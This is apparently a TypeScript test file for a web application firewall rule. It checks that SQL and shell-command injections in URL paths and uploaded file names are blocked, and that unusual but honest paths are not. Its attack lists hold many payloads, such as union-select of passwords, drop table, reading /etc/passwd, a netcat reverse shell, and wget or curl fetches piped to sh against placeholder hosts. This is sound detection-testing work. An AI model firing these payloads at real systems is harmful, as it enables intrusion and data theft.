// The second opinion over paths: injections and commands in any segment, in both engines, and odd honest paths.
import t from 'tap';
import { createMemoryStore, type Inspector, type Verdict } from '#engine';
import { createMemoryCache, createPair } from '../../testing/rule-text.js';
import { renderSecondOpinion } from './evidence-rules.js';

/** No rule scores: what is blocked is raised. */
const rules = `SecRuleEngine On
SecAction "id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=1,setvar:tx.inbound_anomaly_score_threshold=5"
${renderSecondOpinion({ second_opinion: 'enforce', sites: [] })}`;

interface Asked {
  readonly method: string;
  readonly uri: string;
  readonly headers: readonly string[];
  readonly body: Buffer | null;
}

function judge(inspector: Inspector, { method, uri, headers, body }: Asked): Verdict {
  const ends = { clientIp: '192.0.2.1', clientPort: 1, serverIp: '192.0.2.2', serverPort: 80 };
  const head = { method, uri, protocol: 'HTTP/1.1', headers, ...ends };
  const environment = { uniqueId: 'x', nowMs: 0, store: createMemoryStore(), secondOpinion: 'enforce' as const };
  const transaction = inspector.begin(head, environment);
  if (inspector.requestHeaders(transaction) === null) inspector.requestBody(transaction, body);
  return inspector.finish(transaction);
}

const ask = (inspector: Inspector, uri: string): Verdict =>
  judge(inspector, {
    method: 'GET',
    uri,
    headers: ['Host', 'shop.example', 'User-Agent', 'Mozilla/5.0'],
    body: null,
  });

const once = (text: string): string => encodeURIComponent(text).replaceAll("'", '%27');
const spellings = [
  ['as it is', (text: string) => text.replaceAll(' ', '%20').replaceAll('#', '%23').replaceAll('?', '%3F')],
  ['encoded', once],
  ['encoded twice', (text: string) => once(once(text))],
  ['plus for blank', (text: string) => once(text).replaceAll('%20', '+')],
] as const;
const places = [
  ['last', (text: string) => `/items/${text}`],
  ['in the middle', (text: string) => `/items/${text}/details`],
  ['behind a dot', (text: string) => `/items/red.lamp${text}/details.json`],
] as const;

const attacks = [
  "1' or '1'='1",
  "1' or 1=1--",
  "admin'--",
  "admin' #",
  "x') or ('a'='a",
  '1" or "1"="1',
  '1 or 1=1',
  '1 and 1=1',
  '-1 union select 1,2,3',
  '-1 union all select null,null--',
  "1' union select username, password from users--",
  "'/**/or/**/'1'='1",
  '1/**/union/**/select/**/1,2',
  `-1${' '.repeat(9)}union${' '.repeat(20)}select 1,2,3`,
  `1'/*${'x'.repeat(60)}*/or/**/'1'='1`,
  "1'; drop table users--",
  '1; delete from orders where 1=1',
  "1; waitfor delay '0:0:5'--",
  '1 and sleep(5)',
  "1' and sleep(5)#",
  "1' and extractvalue(1,concat(0x7e,version()))--",
  '1 order by 3--',
  "1'||(select version())||'",
  '(select * from users)',
  ';cat /etc/passwd',
  '|cat /etc/passwd',
  '1;id',
  '1|whoami',
  '1&&whoami',
  '`id`',
  '$(id)',
  '$(cat /etc/passwd)',
  ';ping -c 3 192.0.2.1',
  ';cat${IFS}/etc/passwd',
  ';wget http://192.0.2.1/x',
  ';/bin/cat x',
  '|nc 192.0.2.1 4444 -e /bin/sh',
];

/** In one place: the others are what the list above is for. */
const further = [
  "1' into outfile '/srv/x",
  '1 procedure analyse()',
  '1 union values(1,2)',
  'x|net user',
  'x&&certutil -urlcache',
  'x&powershell -c ls',
  'x&powershell -enc AAAA',
  ';reboot',
  ';ls',
  'x|base64 -d|sh',
  'powershell -enc AAAA',
  '$(ls)',
  '<(cat x)',
  'x|sudo id',
  'x|xargs id',
  'x|busybox sh',
  'x&cmd.exe /c dir',
  'x|cmd',
  'x|sh',
  'x|xxd -r -p|sh',
  '1 and exists(select 1)',
  '1 and (select 1)>0',
  '1-(select 1)',
  '{cat,/etc/passwd}',
  '{id,}',
  'x|{ls,-la}',
  '$({id,})',
  '$(<x)',
  '$(/bin/id)',
  'x|sh.png',
  'curl x.example|sh|tee y',
  '|$0',
  'x|$SHELL',
  '&calc.exe&',
  'x&notepad.exe',
  'x&start calc',
  'x&id',
  'order&id;x',
  'id|',
  '1 or true--',
  '1 or not false',
  "1') and true",
  '1 || 1',
  '1 or user() is not null',
  '1 group by 1 having 1',
  '1,sleep(5)',
  'sleep(5)#',
];

const honest = [
  "/wiki/O'Reilly",
  "/wiki/Rock_'n'_Roll",
  "/wiki/Rock 'n' Roll (1975)",
  "/people/d'Artagnan/and/o'Brien",
  "/books/Don't stop -- a story/reviews",
  "/songs/'Til I Die",
  '/wiki/"Weird_Al"_Yankovic',
  '/wiki/Weird "Al" and friends',
  '/wiki/Union_select_committee',
  '/wiki/Union select committee',
  '/blog/select-from-union',
  '/blog/select-one-from-many-or-none',
  '/blog/how-to-select-rows-from-a-table-where-id=1',
  '/blog/drop-table-users',
  '/wiki/Select_(SQL)',
  '/docs/mysql/information_schema/tables',
  '/docs/union-all-select-order-by-1',
  '/wiki/Sleep (2013 film)',
  '/wiki/Benchmark_(computing)',
  '/wiki/AND_gate',
  '/wiki/Or (heraldry)',
  '/wiki/Black and white = grey',
  '/search/black+and+white+or+red',
  '/filter/size=10/and/color=red',
  '/cars;color=red;year=2012/parts;type=wheel',
  '/cars;jsessionid=0123ABCD/list;v=1.1',
  '/map/@51.5,-0.12,15z',
  "/odata/Orders(CustomerID='A',Year=2024)/Items",
  "/odata/People('O''Neil')/Trips",
  '/site/@@rename',
  '/man/usr/bin/env',
  '/notes/C# -- an overview',
  '/tags/c%23/page/2',
  '/tea;cat;milk',
  '/r&b/albums',
  '/q&a/how-to-use-cat',
  '/a/b--c/d-e',
  '/price/$10-$20',
  '/wiki/100%25_(song)',
  '/wiki/%E6%9D%B1%E4%BA%AC/%C3%A9t%C3%A9',
  '/files/report (1) - copy.pdf',
  '/npm/@scope%2Fname/-/name-1.0.0.tgz',
  '/git/compare/main...feature',
  '/time/2024-01-01T00:00:00+01:00',
  '/titles/Rock %26 echo',
  '/titles/Ls and Rs',
  '/wiki/PowerShell',
  '/wiki/PowerShell - a history',
  '/docs/base64',
  '/titles/Home %26 net use',
  '/titles/Procedure and analysis',
  '/titles/European union values (2024)',
  '/deploy/$(tag)',
  '/menu/Combo 1 - (select 2)',
  '/menu/fries and (select 2)',
  '/docs/linux & sudo basics',
  '/docs/find & tee',
  '/docs/java|python',
  '/docs/who exists (and why)',
  '/docs/keyboard & cmd keys',
  '/wiki/Sleep(2)',
  '/man/sleep(3)/see-also',
  '/music/Deep Sleep(2)',
  '/q/passport&id',
  '/docs/Name&ID',
  '/blog/etc/passwd-explained',
  '/quiz/true or false',
  '/quiz/Question 1/true or false',
  '/tiles/{z},{x}',
  '/colours/{red,green}',
  '/wiki/Tom&Jerry.exe',
  '/docs/stop & start again',
  '/tags/ssh',
];

const made = createPair(rules, createMemoryCache()).then(({ oracle, variants }) => [
  { name: 'interpreter', inspector: oracle },
  ...variants,
]);

t.test('issue 22 B10: SQL and commands in paths are raised, in every place and spelling', async (t) => {
  const inspectors = await made;
  for (const attack of attacks) {
    const passed: string[] = [];
    for (const [spelling, spell] of spellings)
      for (const [place, put] of places)
        for (const { name, inspector } of inspectors) {
          // the interpreter is slow: the hardest of them
          if (name === 'interpreter' && (spelling !== 'encoded twice' || place !== 'in the middle')) continue;
          if (ask(inspector, put(spell(attack))).interruption?.ruleId !== 1_006_610)
            passed.push(`${name}, ${spelling}, ${place}: ${put(spell(attack))}`);
        }
    t.strictSame(passed, [], attack);
  }
});

t.test('issue 22 K3: injections and commands of Windows in paths are raised', async (t) => {
  for (const { name, inspector } of await made)
    for (const attack of further)
      t.equal(ask(inspector, `/items/${once(attack)}/details`).interruption?.ruleId, 1_006_610, `${name}: ${attack}`);
});

t.test('22: lines of dots to be filled in are none, a way upwards of dots is', async (t) => {
  const blanks = ['le ....../....../2024', '....../....../2024', 'Name:/............/', 'tel/.......5'];
  for (const { name, inspector } of await made) {
    for (const text of blanks) t.equal(ask(inspector, `/form?text=${once(text)}`).kind, 'pass', `${name}: ${text}`);
    t.equal(ask(inspector, `/form?text=${once('/..............notes')}`).kind, 'block', name);
  }
});

t.test('issue 22 B10: odd paths of honest people are not', async (t) => {
  const inspectors = await made;
  for (const path of honest) {
    const raised: string[] = [];
    for (const uri of [path.replaceAll(' ', '%20'), `${path.replaceAll(' ', '+')}/more`])
      for (const { name, inspector } of inspectors) {
        const { kind, opinion } = ask(inspector, uri);
        if (kind !== 'pass') raised.push(`${name}: ${uri} ${JSON.stringify(opinion?.features ?? [])}`);
      }
    t.strictSame(raised, [], path);
  }
});

/** Names of uploaded files. */
const attackNames = [
  '$(whoami).png',
  '`id`.png',
  'x|cat /etc/passwd',
  'a&&ping -c 5 1.1.1.1.png',
  'sleep(10)-- -.png',
  'a;id.png',
  'x.png;curl evil.example|sh',
  "1' OR '1'='1.png",
  "x'; DROP TABLE a;--.png",
  "x' union select 1,2,3-- .png",
  '%3bid%3b.png',
  'x|net user.png',
  '$(ls).png',
  '<(cat x).png',
  'x|sudo id.png',
  'x|find /.png',
  'x|tee /tmp/x.png',
  'x|cmd /c dir.png',
  '1 and exists(select 1).png',
  '1-(select 1).png',
  '{cat,/etc/passwd}.png',
  'x|sh.png',
  '|sh',
  '$(<x).png',
  '&calc.exe&.png',
  '1 or true--.png',
  'a&id.png',
];
const honestNames = [
  'Holiday & beach.png',
  "o'brien cv.pdf",
  'report (final) - copy.pdf',
  'select from our menu.pdf',
  "Rock'n'roll.mp3",
  'black & white; draft 2.png',
  'invoice #12 - order by phone.pdf',
  'Tom & Jerry | Season 1.mkv',
  "it's a union select committee.pdf",
  'drop table tennis.jpg',
  'cat & dog.png',
  '$100 & up.png',
  'Screenshot 2024-01-02 at 10.00.00.png',
  'id.png',
  'mix & sort.txt',
  'a;b.png',
  'AC;DC - live.mp3',
  'sleep (1).wav',
  'net user manual.pdf',
  'Q&A id list.xlsx',
  'PowerShell -- an introduction.pdf',
  'Unix & sudo basics.pdf',
  'Mac & cmd keys.pdf',
  'find & replace | part 2.mp4',
  'Combo 1 - (select 2).pdf',
  'cost $(USD).csv',
  'Sleep(2).wav',
  'Deep Sleep(2).wav',
  'passport&id.pdf',
  'true or false.pdf',
  'etc passwd-explained.pdf',
];

/** A form with one file. */
function upload(inspector: Inspector, name: string): Verdict {
  const bytes = Buffer.from(
    `--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n` +
      'Content-Type: image/png\r\n\r\nabcdef\r\n--b--\r\n',
  );
  const type = ['Content-Type', 'multipart/form-data; boundary=b'];
  const headers = ['Host', 'shop.example', ...type, 'Content-Length', `${bytes.length}`];
  return judge(inspector, { method: 'POST', uri: '/upload', headers, body: bytes });
}

t.test('issue 22 K2: commands and injections in names of uploaded files are raised, odd names are not', async (t) => {
  for (const { name: engine, inspector } of await made) {
    for (const name of attackNames)
      t.equal(upload(inspector, name).interruption?.ruleId, 1_006_610, `${engine}: ${name}`);
    for (const name of honestNames) {
      const { kind, opinion } = upload(inspector, name);
      t.equal(kind, 'pass', `${engine}: ${name} ${JSON.stringify(opinion?.features ?? [])}`);
    }
  }
});
